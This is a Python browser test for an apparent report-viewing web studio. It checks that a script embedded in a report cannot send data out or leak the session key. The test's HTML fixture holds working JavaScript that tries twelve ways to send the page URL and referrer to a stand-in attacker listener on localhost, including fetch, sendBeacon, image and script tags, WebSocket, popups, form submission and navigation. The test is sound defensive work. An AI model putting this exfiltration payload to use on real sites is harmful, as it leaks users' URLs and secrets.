"""A report may hold a script of somebody else: it sends nothing away, leads nowhere, and sees no key."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace

import pytest
from tornado.httpserver import HTTPServer
from tornado.ioloop import IOLoop
from tornado.netutil import bind_sockets

from softdot.studio.guard import Guard
from softdot.studio.handlers import application

pytestmark = pytest.mark.browser

REPORT = """<!doctype html><html lang="en"><meta charset="utf-8"><title>report</title><p>numbers</p><script>
const far = "http://127.0.0.1:PORT/", told = encodeURIComponent(location.href + " " + document.referrer);
const made = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
const tries = [
  () => fetch(`${far}fetch?${told}`, {mode: "no-cors"}),
  () => navigator.sendBeacon(`${far}beacon`, told),
  () => made("img", {src: `${far}image?${told}`}),
  () => made("script", {src: `${far}script?${told}`}),
  () => made("iframe", {src: `${far}inner?${told}`}),
  () => made("link", {rel: "prefetch", href: `${far}prefetch?${told}`}),
  () => new WebSocket(`ws://127.0.0.1:PORT/socket?${told}`),
  () => window.open(`${far}window?${told}`),
  () => made("a", {href: `${far}link?${told}`, target: "_blank"}).click(),
  () => made("form", {action: `${far}form`, target: "_blank"}).submit(),
  () => { top.location = `${far}top?${told}`; },
  () => { location = `${far}frame?${told}`; },
];
tries.forEach((one, i) => setTimeout(() => { try { one(); } catch { /* refused */ } }, 200 * i));
</script></html>"""
TRIES_S = 3.0  # the tries begin 0.2 s apart, so that no navigation overtakes another


@contextmanager
def listening() -> Iterator[tuple[int, list[str]]]:
    """The attacker's place: its port, and what has arrived there."""
    heard: list[str] = []

    class Catch(BaseHTTPRequestHandler):
        """Takes everything."""

        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Catch)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], heard
    server.shutdown()


@contextmanager
def studio_with(report) -> Iterator[tuple[str, str]]:
    """A studio, one of whose tabs has made this report: its address, and the key."""
    ready, told = threading.Event(), []

    def serve() -> None:
        loop = IOLoop.current()
        sockets = bind_sockets(0, "127.0.0.1")
        port = sockets[0].getsockname()[1]
        guard = Guard.of("127.0.0.1", port)
        session = SimpleNamespace(files={"token/report.html": report})
        server = HTTPServer(application(SimpleNamespace(guard=guard, sessions={"tab": session})))
        server.add_sockets(sockets)
        told.extend([loop, f"http://127.0.0.1:{port}", guard.key])
        ready.set()
        loop.start()
        server.stop()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    assert ready.wait(20)
    loop, address, key = told
    yield address, key
    loop.add_callback(loop.stop)
    thread.join(20)


def test_a_script_in_a_report_leads_nowhere_and_sees_no_key(browser, tmp_path):
    report = tmp_path / "report.html"
    with listening() as (port, heard), studio_with(report) as (address, key):
        report.write_text(REPORT.replace("PORT", str(port)), "utf-8")
        context = browser.new_context()
        page, refused = context.new_page(), []
        page.on("console", lambda one: refused.append(one.text))
        page.goto(f"{address}/show/token/report.html")
        page.wait_for_timeout(1e3 * TRIES_S)
        for said in (
            "connect-src",
            "img-src",
            "new window",
            "Unsafe attempt to initiate navigation",
            "frame-src 'self'",
        ):
            assert any(said in one for one in refused)  # it was tried
        assert heard == []
        assert context.pages == [page]
        assert page.url == f"{address}/show/token/report.html"
        assert key not in "".join([page.url, page.content(), *(frame.url for frame in page.frames)])
        page.goto(report.as_uri())  # the same script, where nothing holds it
        page.wait_for_timeout(1e3 * TRIES_S)
        context.close()
    assert {one.split("?")[0] for one in heard} >= {"/fetch", "/image", "/top"}
